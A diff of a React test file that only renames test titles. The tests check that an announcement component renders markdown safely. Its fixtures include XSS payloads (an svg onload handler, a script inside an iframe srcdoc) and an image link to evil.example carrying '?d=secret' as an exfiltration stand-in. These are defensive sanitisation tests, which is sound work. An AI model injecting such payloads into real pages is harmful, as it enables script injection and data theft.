@@ -5,7 +5,7 @@ import { AnnouncementAction } from './announcement-link';
 
 const show = (content: string) => renderScreen(<AnnouncementText content={content} />);
 
-test('markdown is drawn as elements', () => {
+test('renders markdown as elements', () => {
   show('# What changes\n\n1. **First** and *then*\n2. `code`\n\n- [Home](/home)\n- end\n\none\ntwo');
   expect(screen.getAllByRole('list')).toHaveLength(2);
   expect(screen.getAllByRole('listitem')).toHaveLength(4);
@@ -22,7 +22,7 @@ test.each([
   '<svg/onload=window.stolen=1>',
   '&lt;script&gt;window.stolen=1&lt;/script&gt;',
   '**<iframe srcdoc="<script>parent.stolen=1</script>">**',
-])('%s is shown as text', (content) => {
+])('renders %s as text', (content) => {
   const { container } = show(content);
   expect(container.textContent).toContain(content.replaceAll('**', ''));
   expect(container.innerHTML).not.toMatch(/<(script|img|iframe|svg|a)\b/i);
@@ -39,14 +39,14 @@ test.each([
   'http://plain.example/',
   'https://user:password@evil.example/',
   'relative',
-])('a link to %s leaves its words alone', (uri) => {
+])('renders only the text of a link to %s', (uri) => {
   const link = uri.includes('(') ? uri.replace(/\(.*/, '') : uri;
   show(`[words](${link})`);
   expect(screen.getByText('words')).toBeVisible();
   expect(screen.queryByRole('link')).not.toBeInTheDocument();
 });
 
-test('a picture is not fetched', () => {
+test('fetches no image', () => {
   const { container } = show('![a cat](https://evil.example/?d=secret)');
   expect(container.textContent).toBe('a cat');
   expect(container.innerHTML).not.toContain('evil');
@@ -56,7 +56,7 @@ test.each([
   ['/home', 'Go', null],
   ['/help/en/home', 'Go (opens in a new tab)', '_blank'],
   ['https://example.com/a', 'Go (opens in a new tab)', '_blank'],
-])('the own link to %s opens where it belongs', (uri, name, target) => {
+])("opens the announcement's link to %s in the right tab", (uri, name, target) => {
   renderScreen(<AnnouncementAction link={{ uri, hyperText: 'Go' }} />);
   const link = screen.getByRole('link', { name });
   expect(link).toHaveAttribute('href', uri);
